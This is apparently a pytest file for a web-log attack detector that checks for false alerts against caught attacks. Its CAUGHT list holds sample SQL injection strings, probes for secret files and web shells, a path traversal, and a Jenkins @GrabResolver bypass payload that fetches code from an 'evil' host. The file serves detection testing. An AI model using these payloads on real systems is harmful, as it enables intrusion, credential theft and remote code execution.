"""Ordinary requests that raised alerts in the fourth false-alert audit (Jira/Confluence
queries, phpMyAdmin's signed queries, repository file views, the Jenkins Pipeline editor and
CLI), scanned as a user scans a log: each must raise no alert and no finding of medium or
more, while the attack next to it stays caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.false_alert_support import access_line, assert_found, assert_quiet

_HMAC = "3f9a0c1d2e4b5a6978877665544332211f0e0d0c0b0a09080706050403020100"
_CPS = "/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile"


_line = access_line

ORDINARY = [
    # Confluence CQL and Jira JQL with quoted values: the quote before AND/OR closes the
    # query's own string.
    _line(
        "/dosearchsite.action?cql=siteSearch+~+%22deploy%22+and+space+%3D+%22OPS%22"
        "&queryString=deploy"
    ),
    _line("/dosearchsite.action?cql=siteSearch+~+%22deploy%22+AND+type+%3D+%22page%22"),
    _line(
        "/dosearchsite.action?cql=siteSearch+~+%22x%22+and+space+in+(%22OPS%22,%22DEV%22)"
        "+and+type+%3D+%22page%22"
    ),
    _line("/rest/api/search?cql=text+~+%22deploy%22+and+space+%3D+%22OPS%22&limit=10"),
    _line("/issues/?jql=status%20%3D%20%22In%20Progress%22%20AND%20assignee%20%3D%20%22jsmith%22"),
    _line("/issues/?jql=priority%20%3D%20%22High%22%20OR%20priority%20%3D%20%22Highest%22"),
    _line("/issues/?jql=reporter%20%3D%20%27o.brien%27%20or%20assignee%20%3D%20%27o.brien%27"),
    _line("/issues/?jql=text%20~%20%22select%20*%20from%20users%20where%20id%20%3D%201%22"),
    _line("/rest/api/2/search?jql=summary%20~%20%27order%20by%203--%27&maxResults=5"),
    _line("/dosearchsite.action?cql=title+~+%22docs/%22+and+space+%3D+%22OPS%22"),
    # phpMyAdmin's Browse link repeats the DBA's signed query (5.1 on; 4.9 and 5.0's sql.php).
    _line(
        "/phpmyadmin/index.php?route=/sql&db=shop&table=orders&sql_query=SELECT+id%2C+name+FROM"
        "+customers+UNION+SELECT+id%2C+name+FROM+suppliers&sql_signature=" + _HMAC
    ),
    _line(
        "/phpmyadmin/sql.php?db=shop&table=orders&sql_query=SELECT+id+FROM+customers+UNION"
        "+SELECT+id+FROM+suppliers&sql_signature=" + _HMAC
    ),
    # Repository file views (Gitea, GitLab, cgit, gitweb).
    _line("/owner/repo/src/branch/main/.htaccess"),
    _line("/group/project/-/raw/main/config/.env.example"),
    _line("/group/project/-/blob/main/.gitlab-ci.yml"),
    _line("/group/project/-/tree/main/.github/workflows"),
    _line("/group/project/-/blob/main/config/database.yml"),
    _line("/group/project/-/blob/main/src/shell.php"),
    _line("/group/project/-/blob/main/phpinfo.php"),
    _line("/group/project/-/blob/main/backup.sql"),
    _line("/cgit/repo.git/tree/.htaccess"),
    _line("/cgit/repo.git/plain/config/database.yml"),
    _line("/cgi-bin/cgit.cgi/repo/tree/.env.example?h=main"),
    _line("/gitweb/?p=repo.git;a=blob;f=.htaccess"),
    # The Jenkins Pipeline editor's syntax check, and jenkins-cli.jar -http.
    _line(
        _CPS.replace("/", "/job/app/", 1), 200, "POST", "https://ci.example.com/job/app/configure"
    ),
    _line("/cli?remoting=false", 200, "POST", agent="Java/17"),
]

CAUGHT = [
    (_line("/p?id=1%27%20or%20%27a%27%3D%27a"), "sqli-string-condition"),
    (_line("/p?name=x%22%20or%20%221%22%3D%221"), "sqli-tautology"),
    (_line("/p?q=%27%20or%20user%20like%20%27%25"), "sqli-string-condition"),
    # A quote that breaks out after a decoded "&" (%26) in the value.
    (_line("/p?q=%27%26%27%27%20or%20user%20like%20%27%25"), "sqli-string-condition"),
    (_line("/p?q=x%22)%20and%20type%20%3D%20%22p"), "sqli-string-condition"),
    (_line("/p?id=1%27%20select%20password%20from%20users"), "sqli-quote-breakout"),
    (_line("/item.php?id=-1%20UNION%20SELECT%20user,password%20FROM%20users"), "sqli-union-select"),
    (
        _line("/x.php?sql_query=select+1&sql_signature=ab12&id=-1+union+select+1,2"),
        "sqli-union-select",
    ),
    (_line("/x.php?sql_query=select+1+union+select+2,3"), "sqli-union-select"),
    # A sql_signature= off phpMyAdmin's SQL route, or not 64 hex digits, signs nothing.
    (
        _line("/app.php?sql_query=1+union+select+password+from+users&sql_signature=0"),
        "sqli-union-select",
    ),
    (
        _line("/pma/index.php?route=/sql&sql_query=1+union+select+2,3&sql_signature=ab12"),
        "sqli-union-select",
    ),
    (_line("/app.php?sql_query=1+union+select+2,3&sql_signature=" + _HMAC), "sqli-union-select"),
    # A "~" before the quote opens a literal only in a JQL or CQL query.
    (_line("/item?id=x~%27%20order%20by%203--%20-"), "sqli-quote-breakout"),
    (_line("/item?id=x~%27%20having%201=1--"), "sqli-quote-breakout"),
    (_line("/item?id=x~%27%20or%20sleep(5)%23"), "sqli-quote-breakout"),
    (_line("/item?id=x~%27)%20or%20(%27a%27=%27a"), "sqli-quote-breakout"),
    (_line("/issues/?jql=a&id=x~%27%20order%20by%203--%20-"), "sqli-quote-breakout"),
    # A value ending after the number of seconds: the application's ")" closes the call.
    (_line("/item.php?id=1%20or%20sleep(5"), "sqli-time-blind"),
    (_line("/item.php?id=1%20and%20pg_sleep(5"), "sqli-time-blind"),
    (_line("/item.php?id=benchmark(10000000"), "sqli-time-blind"),
    # MySQL reads \' as a quote character: the quote after it breaks out.
    (_line("/login?u=%5C%27%27%20or%20user%20like%20%27%25"), "sqli-string-condition"),
    (_line("/.env", 404), "sensitive-dotfile"),
    (_line("/.git/config"), "sensitive-dotfile"),
    (_line("/config/database.yml"), "sensitive-secret-file"),
    (_line("/shell.php"), "webshell-known-name"),
    (_line("/wp-content/uploads/shell.php"), "webshell-known-name"),
    (_line("/cgit/repo.git/tree/../../../.env"), "sensitive-dotfile"),
    (_line("/cgit/shell.php/tree/x"), "webshell-known-name"),
    (_line("/static/plain/.env"), "sensitive-dotfile"),
    (
        _line(
            "/securityRealm/user/admin" + _CPS + "?value=@GrabResolver(name=%27x%27,root=%27http"
            "://evil/%27)%0a@Grab(group=%27a%27,module=%27b%27,version=%271%27)%0aimport%20Foo;"
        ),
        "exploit-jenkins-script-security-bypass",
    ),
    (_line(_CPS + "?value=class%20x%7B%7D", 200, "POST"), "exploit-jenkins-script-security-bypass"),
    (_line("/cli?remoting=false", 403, "POST", agent="Java/17"), "exploit-jenkins-cli-file-read"),
    (_line("/cli?remoting=false", 404, "POST"), "exploit-jenkins-probe"),
]


@pytest.mark.parametrize("line", ORDINARY, ids=[line[46:120] for line in ORDINARY])
def test_ordinary_request_raises_no_alert_and_nothing_of_medium_or_more(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    # Three times, as a user views a page again or the editor checks as the admin types.
    assert_quiet(tmp_path, capsys, line)


@pytest.mark.parametrize(("line", "rule_id"), CAUGHT, ids=[c[0][46:120] for c in CAUGHT])
def test_the_attack_next_to_the_ordinary_shape_is_still_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, rule_id: str
) -> None:
    assert_found(tmp_path, capsys, line, rule_id)
